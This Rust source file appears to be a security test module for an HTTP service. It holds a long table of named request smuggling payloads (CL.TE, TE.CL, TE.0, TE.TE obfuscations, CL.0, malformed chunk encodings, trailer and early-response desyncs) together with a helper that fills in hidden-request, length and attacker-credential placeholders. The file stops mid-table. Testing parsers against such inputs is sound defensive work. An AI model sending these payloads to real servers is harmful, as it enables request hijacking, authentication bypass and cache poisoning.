//! The known ways to make two servers disagree about where a request ends.
//!
//! In the texts, `HIDDEN` stands for the hidden request, `LEN` for the length of the body, `HEX` for the length of the
//! hidden request in hexadecimal, `KEY` and `TOKEN` for the attacker's credentials, and `CUT` for a pause.

/// The request that an attacker hides in another request.
const HIDDEN: &str =
    "GET /v1/echo HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-hidden\r\nX-API-Key: KEY\r\n\r\n";
/// The beginning of a hidden request. The next request on the same connection would complete it.
const BEGINNING: &str =
    "GET /v1/echo HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-hidden\r\nX-API-Key: KEY\r\nX-Rest: ";

/// What an attacker hides in a request.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Hidden {
    Request,
    Beginning,
}

/// The attacker's credentials.
pub(crate) struct Attacker<'a> {
    pub(crate) key: &'a str,
    pub(crate) token: &'a str,
}

/// Fills in the placeholders of a text. Returns the parts of the text, between which the attacker pauses.
pub(crate) fn filled(text: &str, hidden: Hidden, attacker: &Attacker<'_>) -> Vec<Vec<u8>> {
    let hidden = match hidden {
        Hidden::Request => HIDDEN,
        Hidden::Beginning => BEGINNING,
    };
    let hidden = hidden.replace("KEY", attacker.key);
    // The length of the body, with the hidden request filled in and without the pauses.
    let body = text.split_once("\r\n\r\n").map_or("", |(_, body)| body);
    let length = body.replace("HIDDEN", &hidden).replace("CUT", "").len();
    let text = text
        .replace("HIDDEN", &hidden)
        .replace("LEN", &length.to_string())
        .replace("HEX", &format!("{:x}", hidden.len()))
        .replace("KEY", attacker.key)
        .replace("TOKEN", attacker.token);
    text.split("CUT")
        .map(|part| part.as_bytes().to_vec())
        .collect()
}

/// Returns the hidden request by itself.
pub(crate) fn not_hidden(attacker: &Attacker<'_>) -> Vec<u8> {
    HIDDEN.replace("KEY", attacker.key).into_bytes()
}

/// Names and texts of requests with a hidden request. Each text is one request: if a server does not reject it, the
/// hidden request is part of the body.
pub(crate) const HIDING: &[(&str, &str)] = &[
    (
        "CL.TE",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-Service-Token: TOKEN\r\nContent-Type: application/json\r\nContent-Length: LEN\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "CL.TE, the encoding first",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding: chunked\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "CL.TE on GET",
        "GET /v1/echo HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-API-Key: KEY\r\nContent-Length: LEN\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "CL.TE with an exact length",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE.CL",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\nHEX\r\nHIDDEN\r\n0\r\n\r\n",
    ),
    (
        "TE.CL with a length of 0",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding: chunked\r\nContent-Length: 0\r\n\r\nHEX\r\nHIDDEN\r\n0\r\n\r\n",
    ),
    (
        "TE.0",
        "GET /v1/echo HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-API-Key: KEY\r\nTransfer-Encoding: chunked\r\n\r\nHEX\r\nHIDDEN\r\n0\r\n\r\n",
    ),
    (
        "TE.0 on OPTIONS",
        "OPTIONS /v1/forward-auth HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding: chunked\r\n\r\nHEX\r\nHIDDEN\r\n0\r\n\r\n",
    ),
    (
        "CL.TE over HTTP/1.0",
        "POST /v1/check HTTP/1.0\r\nHost: q\r\nX-Request-ID: c-attack\r\nConnection: keep-alive\r\nContent-Length: LEN\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE.TE, chunked and unknown",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: x\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE.TE, unknown and chunked",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding: x\r\nTransfer-Encoding: chunked\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE.TE, chunked and identity",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE.TE, identity and chunked",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE.TE, chunked twice",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE, chunked twice in a list",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding: chunked, chunked\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE, chunked is not the last coding",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding: chunked, identity\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE, chunked is the last of two codings",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding: x, chunked\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE identity",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding: identity\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE empty",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding:\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE with an empty list item",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding: ,chunked\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE xchunked",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding: xchunked\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE chunkedx",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding: chunkedx\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE in double quotes",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding: \"chunked\"\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE in single quotes",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding: 'chunked'\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE with a parameter",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding: chunked;x=y\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE in uppercase",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTRANSFER-ENCODING: CHUNKED\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE without a space",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding:chunked\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE after a tab",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding:\tchunked\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE before a tab",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding: chunked\t\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE after a vertical tab",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding: \u{b}chunked\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE before a vertical tab",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding: chunked\u{b}\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE after a form feed",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding: \u{c}chunked\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE after a NUL",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding: \0chunked\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE before a NUL",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding: chunked\0\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE after a no-break space",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding: \u{a0}chunked\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE with a letter that becomes ASCII in lowercase",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding: chun\u{212a}ed\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE before a carriage return",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding: chunked\r\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE after a carriage return",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX: y\r\n\rTransfer-Encoding: chunked\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE after a bare CR",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX: y\rTransfer-Encoding: chunked\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE after a bare LF",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX: y\nTransfer-Encoding: chunked\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE before a bare LF",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding: chunked\nX: y\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE with a space before the colon",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding : chunked\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE with a tab before the colon",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding\t: chunked\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE with a NUL before the colon",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding\0: chunked\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE with a bare LF before the colon",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding\n: chunked\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE after a space",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX: y\r\n Transfer-Encoding: chunked\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE on the first line after a space",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\n Transfer-Encoding: chunked\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE on a folded line",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding:\r\n chunked\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE on a folded line after a tab",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding:\r\n\tchunked\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE with an underscore",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer_Encoding: chunked\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE without a hyphen",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer Encoding: chunked\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "TE named by Connection",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nConnection: Transfer-Encoding\r\nTransfer-Encoding: chunked\r\nContent-Length: LEN\r\n\r\n0\r\n\r\nHIDDEN",
    ),
    (
        "two lengths, 0 first",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nContent-Length: 0\r\nContent-Length: LEN\r\n\r\nHIDDEN",
    ),
    (
        "two lengths, 0 last",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nContent-Length: LEN\r\nContent-Length: 0\r\n\r\nHIDDEN",
    ),
    (
        "two equal lengths",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nContent-Length: LEN\r\nContent-Length: LEN\r\n\r\nHIDDEN",
    ),
    (
        "a list of lengths",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nContent-Length: 0, LEN\r\n\r\nHIDDEN",
    ),
    (
        "a list of equal lengths",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nContent-Length: LEN, LEN\r\n\r\nHIDDEN",
    ),
    (
        "length with a plus",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nContent-Length: +LEN\r\n\r\nHIDDEN",
    ),
    (
        "negative length",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nContent-Length: -LEN\r\n\r\nHIDDEN",
    ),
    (
        "hexadecimal length",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nContent-Length: 0xHEX\r\n\r\nHIDDEN",
    ),
    (
        "length with leading zeros",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nContent-Length: 000LEN\r\n\r\nHIDDEN",
    ),
    (
        "length with a fraction",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nContent-Length: LEN.0\r\n\r\nHIDDEN",
    ),
    (
        "length in exponential form",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nContent-Length: LENe0\r\n\r\nHIDDEN",
    ),
    (
        "length with a space inside",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nContent-Length: 0 LEN\r\n\r\nHIDDEN",
    ),
    (
        "length before a NUL",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nContent-Length: LEN\0\r\n\r\nHIDDEN",
    ),
    (
        "length after a vertical tab",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nContent-Length: \u{b}LEN\r\n\r\nHIDDEN",
    ),
    (
        "length with other digits",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nContent-Length: \u{661}\r\n\r\nHIDDEN",
    ),
    (
        "length that overflows 64 bits",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nContent-Length: 18446744073709551616\r\n\r\nHIDDEN",
    ),
    (
        "length with a space before the colon",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nContent-Length : LEN\r\n\r\nHIDDEN",
    ),
    (
        "length with a NUL before the colon",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nContent-Length\0: LEN\r\n\r\nHIDDEN",
    ),
    (
        "length on a folded line",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nContent-Length:\r\n LEN\r\n\r\nHIDDEN",
    ),
    (
        "length after a space",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX: y\r\n Content-Length: LEN\r\n\r\nHIDDEN",
    ),
    (
        "length after a bare LF",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX: y\nContent-Length: LEN\r\n\r\nHIDDEN",
    ),
    (
        "length after a bare CR",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX: y\rContent-Length: LEN\r\n\r\nHIDDEN",
    ),
    (
        "length named by Connection",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nConnection: Content-Length\r\nContent-Length: LEN\r\n\r\nHIDDEN",
    ),
    (
        "length with Expect",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nExpect: 100-continue\r\nContent-Length: LEN\r\n\r\nHIDDEN",
    ),
    (
        "length with an unknown Expect",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nExpect: y 100-continue\r\nContent-Length: LEN\r\n\r\nHIDDEN",
    ),
    (
        "length with Upgrade",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nConnection: Upgrade\r\nUpgrade: h2c\r\nContent-Length: LEN\r\n\r\nHIDDEN",
    ),
    (
        "length with a method override",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-HTTP-Method-Override: GET\r\nContent-Length: LEN\r\n\r\nHIDDEN",
    ),
    (
        "CL.0",
        "GET /v1/echo HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-API-Key: KEY\r\nContent-Length: LEN\r\n\r\nHIDDEN",
    ),
    (
        "CL.0 at forward-auth",
        "GET /v1/forward-auth HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-API-Key: KEY\r\nX-Service-Token: TOKEN\r\nContent-Length: LEN\r\n\r\nHIDDEN",
    ),
    (
        "CL.0 on OPTIONS",
        "OPTIONS /v1/echo HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-API-Key: KEY\r\nContent-Length: LEN\r\n\r\nHIDDEN",
    ),
    (
        "CL.0 on HEAD",
        "HEAD /v1/echo HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-API-Key: KEY\r\nContent-Length: LEN\r\n\r\nHIDDEN",
    ),
    (
        "CL.0 on DELETE at forward-auth",
        "DELETE /v1/forward-auth HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-API-Key: KEY\r\nX-Service-Token: TOKEN\r\nContent-Length: LEN\r\n\r\nHIDDEN",
    ),
    (
        "CL.0 at a path that does not exist",
        "GET /nothing HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-API-Key: KEY\r\nContent-Length: LEN\r\n\r\nHIDDEN",
    ),
    (
        "CL.0 with an absolute target",
        "GET http://q/v1/echo HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-API-Key: KEY\r\nContent-Length: LEN\r\n\r\nHIDDEN",
    ),
    (
        "CL.0 with another host in the target",
        "GET http://p/v1/echo HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-API-Key: KEY\r\nContent-Length: LEN\r\n\r\nHIDDEN",
    ),
    (
        "CL.0 over HTTP/1.0",
        "GET /v1/echo HTTP/1.0\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-API-Key: KEY\r\nConnection: keep-alive\r\nContent-Length: LEN\r\n\r\nHIDDEN",
    ),
    (
        "CL.0 with Upgrade",
        "GET /v1/echo HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-API-Key: KEY\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nContent-Length: LEN\r\n\r\nHIDDEN",
    ),
    (
        "chunk extension",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-Service-Token: TOKEN\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n2;a=b\r\n{}\r\n0\r\n\r\n",
    ),
    (
        "chunk extension with a line break in quotes",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-Service-Token: TOKEN\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n2;a=\"\r\nHIDDEN\"\r\n{}\r\n0\r\n\r\n",
    ),
    (
        "chunk extension that ends with a bare LF",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-Service-Token: TOKEN\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n2;a\nHIDDEN\r\n0\r\n\r\n",
    ),
    (
        "chunk extension that ends with a bare CR",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-Service-Token: TOKEN\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n2;a\rHIDDEN\r\n0\r\n\r\n",
    ),
    (
        "last chunk with an extension and a bare LF",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-Service-Token: TOKEN\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n0;a\nHIDDEN\r\n\r\n",
    ),
    (
        "chunk length before a bare LF",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-Service-Token: TOKEN\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n0\nHIDDEN\r\n\r\n",
    ),
    (
        "chunk length with a prefix",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-Service-Token: TOKEN\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n0xHEX\r\nHIDDEN\r\n0\r\n\r\n",
    ),
    (
        "chunk length with a plus",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-Service-Token: TOKEN\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n+HEX\r\nHIDDEN\r\n0\r\n\r\n",
    ),
    (
        "negative chunk length",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-Service-Token: TOKEN\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n-1\r\nHIDDEN\r\n0\r\n\r\n",
    ),
    (
        "chunk length with leading zeros",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-Service-Token: TOKEN\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n0000000000000000HEX\r\nHIDDEN\r\n0\r\n\r\n",
    ),
    (
        "chunk length that overflows 64 bits",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-Service-Token: TOKEN\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n1000000000000000HEX\r\nHIDDEN\r\n0\r\n\r\n",
    ),
    (
        "chunk length before a space",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-Service-Token: TOKEN\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nHEX \r\nHIDDEN\r\n0\r\n\r\n",
    ),
    (
        "chunk length after a space",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-Service-Token: TOKEN\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n HEX\r\nHIDDEN\r\n0\r\n\r\n",
    ),
    (
        "chunk length with an underscore",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-Service-Token: TOKEN\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n0_HEX\r\nHIDDEN\r\n0\r\n\r\n",
    ),
    (
        "empty chunk length",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-Service-Token: TOKEN\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n\r\nHIDDEN\r\n0\r\n\r\n",
    ),
    (
        "chunk that is longer than its length",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-Service-Token: TOKEN\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}HIDDEN\r\n0\r\n\r\n",
    ),
    (
        "chunk without a line break at its end",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-Service-Token: TOKEN\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}0\r\n\r\nHIDDEN",
    ),
    (
        "chunk with a bare LF at its end",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-Service-Token: TOKEN\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\n0\r\n\r\nHIDDEN",
    ),
    (
        "two bytes in place of the chunk's line break",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-Service-Token: TOKEN\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}XX0\r\n\r\nHIDDEN",
    ),
    (
        "last chunk with a bare LF at its end",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-Service-Token: TOKEN\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\nHIDDEN",
    ),
    (
        "trailer field",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-Service-Token: TOKEN\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nContent-Length: 9\r\n\r\n",
    ),
    (
        "trailer field that hides a request",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-Service-Token: TOKEN\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nX: y\r\nHIDDEN\r\n\r\n",
    ),
    (
        "trailer field before a bare LF",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-Service-Token: TOKEN\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nX: y\n\nHIDDEN",
    ),
    (
        "response before the body: no token",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nContent-Length: LEN\r\n\r\nCUTHIDDEN",
    ),
    (
        "response before the body: no such path",
        "POST /nothing HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nContent-Length: LEN\r\n\r\nCUTHIDDEN",
    ),
    (
        "response before the body: GET",
        "GET /v1/echo HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-API-Key: KEY\r\nContent-Length: LEN\r\n\r\nCUTHIDDEN",
    ),
    (
        "response before the body: forward-auth",
        "GET /v1/forward-auth HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-API-Key: KEY\r\nX-Service-Token: TOKEN\r\nContent-Length: LEN\r\n\r\nCUTHIDDEN",
    ),
    (
        "response before the body: too large",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nX-Service-Token: TOKEN\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\nCUTHIDDEN",
    ),
    (
        "response before the body: chunks",
        "POST /v1/check HTTP/1.1\r\nHost: q\r\nX-Request-ID: c-attack\r\nTransfer-Encoding: chunked\r\n\r\nCUTHEX\r\nHIDDEN\r\n0\r\n\r\n",
    ),
